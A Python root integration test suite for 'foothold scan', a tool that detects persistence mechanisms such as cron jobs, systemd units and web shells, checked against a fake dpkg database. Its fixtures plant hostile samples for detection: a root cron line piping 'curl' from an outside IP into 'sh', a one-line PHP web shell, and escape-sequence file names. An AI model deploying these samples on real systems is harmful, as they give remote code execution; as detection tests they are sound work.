#!/usr/bin/env python3
"""test_scan.py - root integration tests of `foothold scan` (the KnockKnock half).

Usage: test_scan.py BUILD [--only NAME]... [--write-expected] [other options, ignored]

Every test builds what it scans in a temp directory under /var/tmp and removes it in a
finally, failure or not; the "real" test scans this machine and modifies a package's file
under /etc/cron.d, which it restores byte for byte (and mode, owner, mtime) in a finally.

  fixture       a --root tree with one item of every catalog type (rows.py) and a few
                deliberately suspicious ones, and a fake dpkg database: the JSON lines and
                the table must equal tests/data/scan/fixture.{jsonl,txt} exactly, after
                normalising only what varies between runs and machines.
  types         the fixture covers every id of --list-types, and the scan reports every
                one of them (a type added to the catalog fails until it is covered).
  filters       --type, --user, --unknown; unknown type or user -> exit 2 naming it.
  real          this machine: Debian's own items are "package"; a modified package file
                under /etc/cron.d is "modified"; a new one is "unowned".
  save-compare  --save, then add/remove/change one item each, --compare (exit 4).
  hostile       newlines, invalid UTF-8 and escape sequences in names and content.
  long-path     an item at a path near PATH_MAX, and a 255-byte name.

--write-expected rewrites tests/data/scan/fixture.* from this build's output: only after
checking that output by hand, item by item (the expected files are the specification).
The files as committed were checked so, and hold what the spec asks where main at 6746914
does not (they were written by a build with these three fixed): the kernel module under
/usr/lib/modules/*/**/*.ko is reported (a `**` in mid-pattern walks nothing: walk.c dup()s
the directory fd, which shares its offset); /etc/cron.d/fh-pkg-inline, owned, matching its
md5 and running `sh -c`, keeps inline-code (flags.c masks it off package items, so
--unknown hides it); `ExecStart=-/tmp/x` and vim's `!/tmp/x` are runs-from-tmp (the
prefix is taken as part of the word).
One line per test on stdout ("PASS root/scan-NAME", "FAIL ...: reason", "SKIP ...: why");
details on stderr. Exits 1 if any test failed.
"""

import base64
import difflib
import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import traceback

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from harness import Fail, Skip, check  # noqa: E402
import rows as rowdata  # noqa: E402

HERE = os.path.dirname(os.path.abspath(__file__))
DATA = os.path.join(HERE, "..", "data", "scan")
TIMEOUT = 120
# Every file of the fixture gets this mtime (2023-11-14T22:13:20Z), so that file.mtime is
# compared exactly rather than normalised away.
MTIME = 1700000000
PASSWD = ("root:x:0:0:root:/root:/bin/bash\n"
          "alice:x:1000:1000:Alice:/home/alice:/bin/bash\n"
          # A second uid-0 account (duplicate-uid0 on /etc/passwd).
          "toor:x:0:0::/root:/bin/sh\n")
KEYS = [
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIArCZ6A8m1lHKtus8aIsvoR244rTsoRg6te2tVXhEx1H fh-key1",
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFSRuejv3ut5IF33XMw1Pck0wMxDiIHQCDAItWxSXakw fh-key2",
]
ALICE_UID = 1000

# Package-owned items of the fake dpkg database: (package, path, content, how):
#   "md5sums"  listed in PKG.md5sums with the file's md5 (trust "package")
#   "stale"    listed in PKG.md5sums with another md5 (trust "modified")
#   "conffile" a Conffiles: entry of `status` with the file's md5 (trust "package")
#   "none"     listed, no checksum anywhere (trust "unverified")
PKG_FILES = [
    ("fhpkg", "/etc/cron.d/fh-pkg", "0 4 * * * root /usr/bin/true\n", "md5sums"),
    ("fhpkg", "/etc/cron.d/fh-pkg-modified", "0 5 * * * root /usr/bin/true --changed\n",
     "stale"),
    ("fhconf", "/etc/cron.d/fh-conffile", "0 6 * * * root /usr/bin/true\n", "conffile"),
    ("fhpkg", "/etc/cron.d/fh-pkg-nosum", "0 7 * * * root /usr/bin/true\n", "none"),
    # Owned and matching, and running inline shell code: --unknown must still show it.
    ("fhpkg", "/etc/cron.d/fh-pkg-inline", "0 8 * * * root sh -c 'echo pkg >/dev/null'\n",
     "md5sums"),
]

# Deliberately suspicious items on top of rows.py's: (path, content, mode) or a symlink
# (path, None, target).
EXTRAS = [
    ("/etc/cron.d/.fh-hidden", "* * * * * root /usr/bin/true\n", 0o644),
    ("/etc/cron.d/fh-world", "* * * * * root /usr/bin/true\n", 0o666),
    ("/etc/cron.d/fh-tmpx", "* * * * * root /tmp/x\n", 0o644),
    ("/etc/cron.d/fh-bashc", "* * * * * root bash -c 'echo hi >/dev/null'\n", 0o644),
    ("/etc/cron.d/fh-curl", "*/5 * * * * root curl -fsS http://198.51.100.7/i | sh\n", 0o644),
    # systemd's "-" prefix (failure ignored) before a command run from /tmp.
    ("/etc/systemd/system/fh-dash.service", "[Service]\nExecStart=-/tmp/fh-dash\n", 0o644),
    ("/etc/systemd/system/multi-user.target.wants/fh-gone.service", None,
     "/etc/systemd/system/fh-gone.service"),
    # /usr/bin/true must exist for items that run it not to be missing-target.
    ("/usr/bin/true", rowdata.ELF, 0o755),
]


def foothold_argv(build, *args):
    return [os.path.join(build, "foothold"), "scan", *args]


def run(build, *args, ok=(0,)):
    """Runs foothold scan; returns (rc, stdout bytes, stderr text)."""
    p = subprocess.run(foothold_argv(build, *args), stdin=subprocess.DEVNULL,
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=TIMEOUT)
    err = p.stderr.decode("utf-8", "replace")
    if ok is not None:
        check(p.returncode in ok, "foothold scan %s exited %d" % (" ".join(args), p.returncode),
              err)
    return p.returncode, p.stdout, err


def records(out):
    """JSON lines -> list of dicts; every line must parse on its own."""
    recs = []
    for i, line in enumerate(out.split(b"\n")):
        if not line:
            continue
        try:
            recs.append(json.loads(line))
        except ValueError as e:
            raise Fail("output line %d is not JSON: %s" % (i + 1, e), line[:300])
    check(out == b"" or out.endswith(b"\n"), "JSON output does not end with a newline")
    return recs


def by_path(recs):
    return {r["file"]["path"]: r for r in recs}


def write(root, path, content, mode=0o644, uid=0):
    host = root + path
    os.makedirs(os.path.dirname(host), exist_ok=True)
    if isinstance(content, str):
        content = content.encode()
    with open(host, "wb") as f:
        f.write(content)
    os.chown(host, uid, uid)  # before chmod: chown clears the setuid bit
    os.chmod(host, mode)  # chmod: the umask does not decide the mode
    return host


def chown_home(root):
    """alice's home and everything in it belong to alice, as on a real system."""
    home = root + rowdata.ALICE
    for d, dirs, files in os.walk(home):
        for n in [d] + [os.path.join(d, x) for x in dirs + files]:
            os.chown(n, ALICE_UID, ALICE_UID, follow_symlinks=False)


def fixed_mtimes(root):
    for d, dirs, files in os.walk(root):
        for n in files + dirs:
            os.utime(os.path.join(d, n), (MTIME, MTIME), follow_symlinks=False)


def fixture_rows():
    """The first row of rows.py for every type (the extra per-type rows too, but not the
    ones that need a running writer to mean something)."""
    out = []
    for r in rowdata.ROWS:
        if r["path"] == "/etc/passwd":
            continue  # PASSWD below
        out.append(r)
    return out


def build_fixture(root):
    """Fills root with one item of every catalog type, EXTRAS and the dpkg database."""
    for r in fixture_rows():
        c = r["content"]
        if isinstance(c, str):
            c = (r.get("pre") or "") + c
            c = c.replace("{KEY1}", KEYS[0]).replace("{KEY2}", KEYS[1])
        if r.get("link"):
            host = root + r["path"]
            os.makedirs(os.path.dirname(host), exist_ok=True)
            os.symlink(c, host)
            continue
        mode = r.get("perm", 0o644)
        if r.get("chmod") == "u+s":
            mode = 0o4755
        write(root, r["path"], c, mode)
    write(root, "/etc/passwd", PASSWD)
    for path, content, mode in EXTRAS:
        if content is None:
            os.makedirs(os.path.dirname(root + path), exist_ok=True)
            os.symlink(mode, root + path)
        else:
            write(root, path, content, mode)
    # The fake dpkg database.
    info = root + "/var/lib/dpkg/info"
    os.makedirs(info, exist_ok=True)
    lists, sums, conffiles = {}, {}, {}
    for pkg, path, content, how in PKG_FILES:
        write(root, path, content)
        md5 = hashlib.md5(content.encode()).hexdigest()
        lists.setdefault(pkg, ["/.", "/etc", "/etc/cron.d"]).append(path)
        if how == "md5sums":
            sums.setdefault(pkg, []).append("%s  %s" % (md5, path[1:]))
        elif how == "stale":
            sums.setdefault(pkg, []).append("%s  %s" % ("0" * 32, path[1:]))
        elif how == "conffile":
            conffiles.setdefault(pkg, []).append(" %s %s" % (path, md5))
    for pkg, paths in lists.items():
        with open("%s/%s.list" % (info, pkg), "w") as f:
            f.write("\n".join(paths) + "\n")
    for pkg, lines in sums.items():
        with open("%s/%s.md5sums" % (info, pkg), "w") as f:
            f.write("\n".join(lines) + "\n")
    status = []
    for pkg in sorted(lists):
        status.append("Package: %s\nStatus: install ok installed\nVersion: 1.0\n"
                      "Architecture: all\n" % pkg)
        if pkg in conffiles:
            status[-1] += "Conffiles:\n" + "\n".join(conffiles[pkg]) + "\n"
    with open(root + "/var/lib/dpkg/status", "w") as f:
        f.write("\n".join(status))
    chown_home(root)
    fixed_mtimes(root)


class Root:
    """A temp directory under /var/tmp, removed on exit whatever happened."""

    def __init__(self, tag):
        self.tag = tag

    def __enter__(self):
        self.path = tempfile.mkdtemp(prefix="fh-scan-%s." % self.tag, dir="/var/tmp")
        os.chmod(self.path, 0o755)
        return self.path

    def __exit__(self, *exc):
        shutil.rmtree(self.path, ignore_errors=True)
        return False


# ---- normalisation: only what legitimately varies between runs and machines ----

def normalise_record(rec):
    rec = json.loads(json.dumps(rec))
    if "@timestamp" in rec:
        rec["@timestamp"] = "TIMESTAMP"
    if "host" in rec:
        rec["host"] = "HOST"
    f = rec.get("file")
    if isinstance(f, dict) and "inode" in f:
        f["inode"] = "INODE"
    fh = rec.get("foothold", {})
    if "root" in fh:
        fh["root"] = "ROOT"
    return rec


def normalise_jsonl(out):
    return "".join(json.dumps(normalise_record(r), sort_keys=False, ensure_ascii=False) + "\n"
                   for r in records(out))


def normalise_table(out, root):
    """The root's name, and the count of directories read in the summary line: that one
    depends on how the walk is done (a performance figure, not what was found)."""
    text = out.decode("utf-8", "backslashreplace").replace(root, "ROOT")
    return re.sub(r"\(\d+ directories read;", "(N directories read;", text)


def compare_text(name, got, path):
    """Fails with a unified diff when got differs from the file at path."""
    try:
        with open(path, encoding="utf-8") as f:
            want = f.read()
    except FileNotFoundError:
        raise Fail("%s: %s is missing (write it with --write-expected, then check it by "
                   "hand)" % (name, path))
    if got != want:
        diff = "".join(difflib.unified_diff(want.splitlines(True), got.splitlines(True),
                                            path, "this run"))
        raise Fail("%s differs from %s (diff on stderr)" % (name, os.path.relpath(path)), diff)


# ---- tests ----

def list_types(build):
    _, out, _ = run(build, "--list-types")
    return [line.split()[0] for line in out.decode().splitlines() if line.strip()]


def fixture_scan(build, root, *args, ok=(0,)):
    return run(build, "--root", root, "--no-progress", "--no-cache", *args, ok=ok)


def test_fixture(build, opts):
    with Root("fixture") as root:
        build_fixture(root)
        _, out, err = fixture_scan(build, root, "--json")
        got = normalise_jsonl(out)
        _, tout, _ = fixture_scan(build, root)
        tgot = normalise_table(tout, root)
        if opts["write_expected"]:
            os.makedirs(DATA, exist_ok=True)
            with open(os.path.join(DATA, "fixture.jsonl"), "w") as f:
                f.write(got)
            with open(os.path.join(DATA, "fixture.txt"), "w") as f:
                f.write(tgot)
            sys.stderr.write("wrote %s/fixture.{jsonl,txt}: check them by hand\n" % DATA)
        compare_text("the JSON", got, os.path.join(DATA, "fixture.jsonl"))
        compare_text("the table", tgot, os.path.join(DATA, "fixture.txt"))


def test_types(build, opts):
    ids = list_types(build)
    check(len(ids) >= 59, "--list-types gave %d ids" % len(ids), ids)
    covered = {r["type"] for r in fixture_rows()}
    uncovered = [t for t in ids if t not in covered]
    check(not uncovered, "the fixture has no item of type(s) %s: add a row to "
          "tests/root/rows.py" % ", ".join(uncovered))
    with Root("types") as root:
        build_fixture(root)
        _, out, _ = fixture_scan(build, root, "--json")
        recs = records(out)
        reported = {r["foothold"]["item"]["type"] for r in recs}
        missing = [t for t in ids if t not in reported]
        paths = {r["file"]["path"] for r in recs}
        lost = [r["path"] for r in fixture_rows() if r["path"] not in paths]
        check(not missing and not lost,
              "the scan reports no item of type(s) %s; fixture items not reported: %s" %
              (", ".join(missing) or "-", ", ".join(lost) or "-"))


def test_filters(build, opts):
    with Root("filters") as root:
        build_fixture(root)
        # --type, repeated and comma-separated
        for args in (["--type", "cron-d,ssh-authorized-keys"],
                     ["--type", "cron-d", "--type", "ssh-authorized-keys"]):
            _, out, _ = fixture_scan(build, root, "--json", *args)
            recs = records(out)
            types = sorted({r["foothold"]["item"]["type"] for r in recs})
            check(types == ["cron-d", "ssh-authorized-keys"], "%s gave types %s" %
                  (args, types))
            want = {p for p, c, m in EXTRAS if p.startswith("/etc/cron.d/")}
            want |= {p for _, p, _, _ in PKG_FILES}
            want |= {"/etc/cron.d/fh-job", "/home/alice/.ssh/authorized_keys"}
            check(set(by_path(recs)) == want, "%s: items differ" % args,
                  sorted(set(by_path(recs)) ^ want))
        # --user alice: only alice's per-user items, and all of them
        _, out, _ = fixture_scan(build, root, "--json", "--user", "alice")
        recs = records(out)
        want = {r["path"] for r in fixture_rows() if r["path"].startswith("/home/alice/")}
        check(set(by_path(recs)) == want, "--user alice: items differ",
              sorted(set(by_path(recs)) ^ want))
        for r in recs:
            check(r["foothold"]["item"].get("home", {}).get("user") == "alice",
                  "--user alice gave %s without home.user alice" % r["file"]["path"], r)
        _, out, _ = fixture_scan(build, root, "--json", "--user", "root")
        check(not any(p.startswith("/home/alice/") for p in by_path(records(out))),
              "--user root gave alice's items")
        # --unknown: hides "package" items, never one flagged inline-code
        _, out, _ = fixture_scan(build, root, "--json")
        every = by_path(records(out))
        _, out, _ = fixture_scan(build, root, "--json", "--unknown")
        shown = by_path(records(out))
        for p, r in every.items():
            pkg = r["foothold"]["trust"]["status"] == "package"
            if pkg and p != "/etc/cron.d/fh-pkg-inline":
                check(p not in shown, "--unknown showed %s (trust package)" % p)
            elif not pkg:
                check(p in shown, "--unknown hid %s (trust %s)" %
                      (p, r["foothold"]["trust"]["status"]))
        check("/etc/cron.d/fh-pkg" in every and
              every["/etc/cron.d/fh-pkg"]["foothold"]["trust"]["status"] == "package",
              "/etc/cron.d/fh-pkg is not trust package", every.get("/etc/cron.d/fh-pkg"))
        inl = every.get("/etc/cron.d/fh-pkg-inline")
        check(inl and inl["foothold"]["trust"]["status"] == "package",
              "/etc/cron.d/fh-pkg-inline (owned, md5 matches) is not trust package", inl)
        check("inline-code" in inl["foothold"]["flags"],
              "/etc/cron.d/fh-pkg-inline (sh -c, owned by fhpkg) is not flagged inline-code "
              "(flags %s)" % inl["foothold"]["flags"], inl)
        check("/etc/cron.d/fh-pkg-inline" in shown,
              "--unknown hid /etc/cron.d/fh-pkg-inline, a package's item running sh -c")
        # unknown type / user: exit 2 naming it
        for args, word in ((["--type", "cron-d,no-such-type"], "no-such-type"),
                           (["--user", "nobody-here"], "nobody-here")):
            rc, out, err = fixture_scan(build, root, *args, ok=None)
            check(rc == 2, "%s exited %d, not 2" % (args, rc), err)
            check(word in err, "%s: the message does not name %s" % (args, word), err)
            check(out == b"", "%s printed items" % args, out[:300])


def package_owner(path):
    """dpkg -S's owner of path, or None."""
    p = subprocess.run(["dpkg-query", "-S", path], stdout=subprocess.PIPE,
                       stderr=subprocess.DEVNULL, text=True)
    if p.returncode != 0:
        return None
    for line in p.stdout.splitlines():
        pkg, _, f = line.partition(": ")
        if f == path:
            return pkg.split(":")[0]
    return None


def sha256_file(path):
    with open(path, "rb") as f:
        return hashlib.sha256(f.read()).hexdigest()


REAL_ITEMS = ["/etc/cron.d/e2scrub_all", "/etc/cron.daily/dpkg", "/etc/cron.daily/apt-compat",
              "/etc/cron.daily/logrotate", "/usr/lib/systemd/system/systemd-journald.service",
              "/usr/lib/systemd/system/getty@.service",
              "/usr/lib/systemd/system/apt-daily.timer"]


def test_real(build, opts):
    if not shutil.which("dpkg-query"):
        raise Skip("no dpkg on this machine")
    # The digest cache goes to a private state directory: the machine's is left alone, and
    # the scans after the change go through a cache that knew the file before it.
    with Root("real") as d:
        conf = os.path.join(d, "foothold.conf")
        with open(conf, "w") as f:
            f.write("# test_scan.py\n[decisions]\nstate_dir = %s/state\n" % d)
        real_scans(build, ["-c", conf])
        check(os.path.exists(os.path.join(d, "state", "scan-cache")),
              "the scans did not keep their digest cache in the configured state_dir")


def real_scans(build, conf):
    _, out, err = run(build, *conf, "--json", "--no-progress", "--type",
                      "cron-d,cron-periodic,systemd-service,systemd-timer")
    recs = by_path(records(out))
    checked = []
    for path in REAL_ITEMS:
        if not os.path.exists(path):
            sys.stderr.write("real: %s is absent here, skipped\n" % path)
            continue
        owner = package_owner(path)
        if owner is None:
            # Debian 12 lists units at /lib/systemd/system: try the pre-merge spelling.
            owner = package_owner(path.replace("/usr/lib/", "/lib/", 1))
        check(owner, "%s: dpkg-query -S knows no owner" % path)
        r = recs.get(path)
        check(r, "%s is not in the scan" % path)
        t = r["foothold"]["trust"]
        check(t.get("status") == "package" and t.get("package") == owner and
              t.get("manager") == "dpkg" and t.get("checksum") in ("md5sums", "conffile"),
              "%s: trust %s, want package %s (dpkg)" % (path, t, owner), r)
        check(r["foothold"]["flags"] == [], "%s: flags %s, want none" %
              (path, r["foothold"]["flags"]))
        checked.append(path)
    check(len(checked) >= 3, "only %d Debian items found to check: %s" %
          (len(checked), checked))

    # A package's file under /etc/cron.d, modified, then restored exactly.
    target = None
    for cand in ["/etc/cron.d/e2scrub_all"] + sorted(
            os.path.join("/etc/cron.d", n) for n in os.listdir("/etc/cron.d")):
        if os.path.isfile(cand) and not os.path.islink(cand) and package_owner(cand):
            target = cand
            break
    newfile = "/etc/cron.d/fh-scan-test-%d" % os.getpid()
    if target is None:
        raise Skip("no package-owned file under /etc/cron.d (checked %d items)" % len(checked))
    st = os.stat(target)
    aside = tempfile.NamedTemporaryFile(prefix="fh-scan-real.", dir="/var/tmp", delete=False)
    aside.close()
    shutil.copy2(target, aside.name)
    before = sha256_file(target)
    try:
        with open(target, "a") as f:
            f.write("# foothold test_scan: modified\n")
        with open(newfile, "w") as f:
            f.write("# foothold test_scan\n17 3 * * * root /usr/bin/true\n")
        _, out, err = run(build, *conf, "--json", "--no-progress", "--type", "cron-d")
        recs = by_path(records(out))
        r = recs.get(target)
        check(r, "%s is not in the scan after the change" % target)
        t = r["foothold"]["trust"]
        check(t.get("status") == "modified" and t.get("package") == package_owner(target),
              "%s after appending a line: trust %s, want modified" % (target, t), r)
        check("modified" in r["foothold"]["flags"], "%s is modified but flags are %s" %
              (target, r["foothold"]["flags"]))
        r = recs.get(newfile)
        check(r, "%s (new, unowned) is not in the scan" % newfile)
        check(r["foothold"]["trust"] == {"status": "unowned"} and
              "unowned" in r["foothold"]["flags"],
              "%s: trust %s flags %s, want unowned" % (newfile, r["foothold"]["trust"],
                                                      r["foothold"]["flags"]), r)
        # the table says so too
        _, tout, _ = run(build, *conf, "--no-progress", "--type", "cron-d")
        lines = [l for l in tout.decode("utf-8", "replace").splitlines() if target in l]
        check(lines and "MODIFIED" in lines[0], "the table does not say MODIFIED for %s" %
              target, tout.decode("utf-8", "replace"))
    finally:
        try:
            os.unlink(newfile)
        except FileNotFoundError:
            pass
        # Restore content (in place: same inode), mode, owner and times.
        with open(aside.name, "rb") as src, open(target, "wb") as dst:
            dst.write(src.read())
        os.chmod(target, st.st_mode & 0o7777)
        os.chown(target, st.st_uid, st.st_gid)
        os.utime(target, ns=(st.st_atime_ns, st.st_mtime_ns))
        os.unlink(aside.name)
    after = os.stat(target)
    check(sha256_file(target) == before and after.st_mode == st.st_mode and
          after.st_uid == st.st_uid and after.st_gid == st.st_gid and
          after.st_mtime_ns == st.st_mtime_ns,
          "%s was NOT restored exactly (sha256 %s, was %s)" % (target, sha256_file(target),
                                                                before))
    check(not os.path.exists(newfile), "%s was not removed" % newfile)
    _, out, _ = run(build, *conf, "--json", "--no-progress", "--type", "cron-d")
    r = by_path(records(out)).get(target)
    check(r and r["foothold"]["trust"]["status"] == "package",
          "%s is not trust package again after the restore" % target, r)


def test_save_compare(build, opts):
    with Root("save") as root:
        build_fixture(root)
        saved = os.path.join(root, "..", os.path.basename(root) + ".inventory")
        saved = os.path.realpath(saved)
        try:
            _, out, _ = fixture_scan(build, root, "--json", "--save", saved)
            now = records(out)
            with open(saved, "rb") as f:
                kept = records(f.read())
            check([normalise_record(r) for r in kept] == [normalise_record(r) for r in now],
                  "--save wrote other records than --json printed")
            # no change: exit 0, nothing printed
            rc, out, err = fixture_scan(build, root, "--json", "--compare", saved)
            check(rc == 0 and out == b"", "an unchanged root: --compare exited %d with %r" %
                  (rc, out[:300]), err)
            rc, out, err = fixture_scan(build, root, "--compare", saved)
            check(rc == 0, "an unchanged root: --compare (table) exited %d" % rc, err)
            check(out.decode().strip().splitlines()[-1].startswith("0 difference(s)"),
                  "the table does not say 0 differences", out)
            # add one, remove one, change one (what it runs)
            write(root, "/etc/cron.d/fh-added", "* * * * * root /usr/bin/true added\n")
            os.unlink(root + "/etc/inittab")
            write(root, "/etc/cron.d/fh-job", "*/5 * * * * root /usr/bin/true changed\n")
            rc, out, err = fixture_scan(build, root, "--json", "--compare", saved, ok=(4,))
            diffs = records(out)
            got = sorted((d["event"]["action"], d["file"]["path"]) for d in diffs)
            check(got == [("added", "/etc/cron.d/fh-added"), ("changed", "/etc/cron.d/fh-job"),
                          ("removed", "/etc/inittab")], "differences: %s" % got, out)
            for d in diffs:
                check(d["event"].get("dataset") == "foothold.scan.compare" and
                      d["event"].get("kind") == "state",
                      "difference record event %s" % d["event"], d)
            ch = [d for d in diffs if d["event"]["action"] == "changed"][0]
            changes = ch["foothold"].get("changes", [])
            for c in ("sha256", "content", "object"):
                check(c in changes, "the change lists %s, not %s" % (changes, c), ch)
            bef = ch["foothold"].get("before")
            check(isinstance(bef, dict) and bef.get("object") == "/tmp/fh-crond" and
                  bef.get("sha256") == by_path(now)["/etc/cron.d/fh-job"]["file"]["hash"]
                  ["sha256"], "foothold.before is %s" % bef, ch)
            check(ch["foothold"]["item"]["object"] == "/usr/bin/true changed",
                  "the changed record's object is %s" % ch["foothold"]["item"]["object"])
            rm = [d for d in diffs if d["event"]["action"] == "removed"][0]
            check(rm["foothold"]["item"]["type"] == "init-legacy",
                  "the removed record's type is %s" % rm["foothold"]["item"].get("type"), rm)
            # the table: one line per difference, then the count
            rc, out, err = fixture_scan(build, root, "--compare", saved, ok=(4,))
            lines = out.decode("utf-8", "replace").strip().splitlines()
            check(len(lines) == 4 and lines[-1].startswith("3 difference(s)"),
                  "the table's differences", out.decode("utf-8", "replace"))
            acts = sorted(l.split()[0] for l in lines[:3])
            check(acts == ["added", "changed", "removed"], "table actions %s" % acts, lines)
            chl = [l for l in lines if l.startswith("changed")][0]
            check("/etc/cron.d/fh-job" in chl and "sha256" in chl and "object" in chl,
                  "the table's changed line: %s" % chl)
            # a damaged saved file: exit 1 naming FILE:LINE
            with open(saved, "rb") as f:
                lines = f.read().split(b"\n")
            lines[2] = lines[2][:40]
            with open(saved, "wb") as f:
                f.write(b"\n".join(lines))
            rc, out, err = fixture_scan(build, root, "--json", "--compare", saved, ok=None)
            check(rc == 1, "a broken saved file: exit %d, not 1" % rc, err)
            check("%s:3" % saved in err, "the message does not name %s:3" % saved, err)
        finally:
            if os.path.exists(saved):
                os.unlink(saved)


HOSTILE = [b"fh-new\nline", b"fh-bad\xff\xfe", b"fh-esc\x1b[31mred\x1b[0m"]


def test_hostile(build, opts):
    with Root("hostile") as root:
        build_fixture(root)
        d = (root + "/etc/cron.d").encode()
        for n in HOSTILE:
            with open(d + b"/" + n, "wb") as f:
                f.write(b"* * * * * root /opt/x\x1b]0;pwn\x07\xff\nrun\n")
        # content with such bytes under a normal name
        with open(d + b"/fh-hostile-content", "wb") as f:
            f.write(b"* * * * * root /usr/bin/true \x1b[2J\xff\xc3( arg\r\n")
        # a hostile symlink target
        os.symlink(b"/etc/\x1b[31m\xff\nx",
                   (root + "/etc/systemd/system/multi-user.target.wants/fh-\x1b.service")
                   .encode())
        _, out, err = fixture_scan(build, root, "--json", "--type",
                                   "cron-d,systemd-enable-link")
        recs = records(out)  # every line parses
        names = set()
        for r in recs:
            raw = r["foothold"].get("raw", {})
            path = (base64.b64decode(raw["path"]) if "path" in raw
                    else r["file"]["path"].encode("utf-8"))
            names.add(path)
            check("\ufffd" not in r["file"]["path"] or "path" in raw,
                  "a replaced path without foothold.raw.path", r)
        for n in HOSTILE:
            check(b"/etc/cron.d/" + n in names, "%r is not recoverable from the JSON" % n,
                  sorted(names))
        check(b"/etc/systemd/system/multi-user.target.wants/fh-\x1b.service" in names,
              "the hostile link's name is not recoverable")
        lk = [r for r in recs if r["file"]["type"] == "symlink" and
              "fh-" in r["file"]["path"] and "\u001b" in r["file"]["path"]]
        check(lk, "the hostile link is not in the scan")
        raw = lk[0]["foothold"].get("raw", {})
        check("target" in raw and base64.b64decode(raw["target"]) == b"/etc/\x1b[31m\xff\nx",
              "the link target's exact bytes are not in foothold.raw.target", lk[0])
        # the table: no raw control bytes, one line per row
        _, tout, _ = fixture_scan(build, root, "--type", "cron-d,systemd-enable-link")
        for bad in (b"\x1b", b"\xff", b"\r", b"\x07"):
            check(bad not in tout, "the table contains a raw %r" % bad, tout)
        tout.decode("utf-8")  # valid UTF-8 throughout
        lines = tout.split(b"\n")
        rows = [l for l in lines if l.startswith(b"  ")]
        want = len([r for r in recs])
        check(len(rows) == want, "the table has %d item rows for %d items: a row was split" %
              (len(rows), want), tout)
        for n in HOSTILE:
            base = n.split(b"\n")[0].split(b"\xff")[0].split(b"\x1b")[0]
            check(len([l for l in rows if base in l]) == 1, "no single row for %r" % n, tout)
        for l in lines:
            check(l == b"" or l.startswith((b"  ", b"== ")) or re.match(rb"^\d+ item", l),
                  "a table line that is neither a header nor a row: %r" % l, tout)


def test_long_path(build, opts):
    with Root("long") as root:
        build_fixture(root)
        # A deep tree under /var/www/** (a `**` pattern), the item's path near PATH_MAX
        # inside the root (names of 200 bytes).
        comp = "d" * 200
        rel = "/var/www/html"
        while len(rel) + 201 + 60 < 4096:
            rel += "/" + comp
        deep_dir = rel
        fd = os.open(root, os.O_RDONLY)
        try:
            # mkdir relative, step by step: the host path exceeds PATH_MAX
            cur = os.open(root + "/var/www/html", os.O_RDONLY)
            for c in deep_dir[len("/var/www/html/"):].split("/"):
                os.mkdir(c, dir_fd=cur)
                nxt = os.open(c, os.O_RDONLY, dir_fd=cur)
                os.close(cur)
                cur = nxt
            name = "shell-" + "x" * 20 + ".php"
            f = os.open(name, os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=cur)
            os.write(f, b"<?php system($_GET['c']); ?>\n")
            os.close(f)
            os.close(cur)
        finally:
            os.close(fd)
        deep = deep_dir + "/" + name
        # A 255-byte name in /etc/cron.d.
        long_name = "fh-" + "n" * 252
        write(root, "/etc/cron.d/" + long_name, "* * * * * root /usr/bin/true\n")
        rc, out, err = fixture_scan(build, root, "--json", "--type", "web-shell,cron-d",
                                    ok=None)
        check(rc == 0, "exited %d (a crash is negative)" % rc, err)
        paths = set(by_path(records(out)))
        check("/etc/cron.d/" + long_name in paths, "the 255-byte name is not reported")
        # The deep item: reported, or counted as skipped (the host path is past
        # PATH_MAX: root prefix + ~4000 bytes).
        host_len = len(root) + len(deep)
        reported = deep in paths
        counted = re.search(r"(\d+) name\(s\) too long", err)
        check(reported or (counted and int(counted.group(1)) >= 1),
              "the item at %d bytes (%d with the root) is neither reported nor counted "
              "as skipped" % (len(deep), host_len), err)
        rc, tout, err = fixture_scan(build, root, "--type", "web-shell,cron-d", ok=None)
        check(rc == 0, "the table: exited %d" % rc, err)
        # Removing it needs relative steps too: rmtree copes (it uses fds).


TESTS = [
    ("fixture", test_fixture),
    ("types", test_types),
    ("real", test_real),
    ("save-compare", test_save_compare),
    ("hostile", test_hostile),
    ("filters", test_filters),
    ("long-path", test_long_path),
]


def main(argv):
    if len(argv) < 2:
        sys.stderr.write(__doc__)
        return 2
    build = os.path.abspath(argv[1])
    only, opts, i = [], {"write_expected": False}, 2
    while i < len(argv):
        a = argv[i]
        if a == "--only" and i + 1 < len(argv):
            only.append(argv[i + 1])
            i += 2
            continue
        if a == "--write-expected":
            opts["write_expected"] = True
        # anything else (--sensor S, --dump) is for the other root tests
        elif a in ("--sensor",) and i + 1 < len(argv):
            i += 1
        i += 1
    if os.geteuid() != 0:
        print("SKIP root/scan-all: needs root")
        return 0
    if not os.access(os.path.join(build, "foothold"), os.X_OK):
        print("FAIL root/scan-all: %s/foothold missing" % build)
        return 1
    selected = [(n, t) for n, t in TESTS if not only or n in only or "scan-" + n in only]
    if only and not selected:
        return 0  # --only names another suite's test
    failed = False
    for name, fn in selected:
        try:
            fn(build, opts)
            print("PASS root/scan-%s" % name, flush=True)
        except Skip as e:
            print("SKIP root/scan-%s: %s" % (name, e.args[0]), flush=True)
        except Fail as e:
            failed = True
            print("FAIL root/scan-%s: %s" % (name, e.args[0]), flush=True)
            for d in e.args[1:]:
                if isinstance(d, bytes):
                    d = d.decode("utf-8", "backslashreplace")
                sys.stderr.write("%s\n" % (d if isinstance(d, str) else
                                           json.dumps(d, indent=1, ensure_ascii=False)))
        except Exception:
            failed = True
            print("FAIL root/scan-%s: exception (traceback on stderr)" % name, flush=True)
            traceback.print_exc()
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
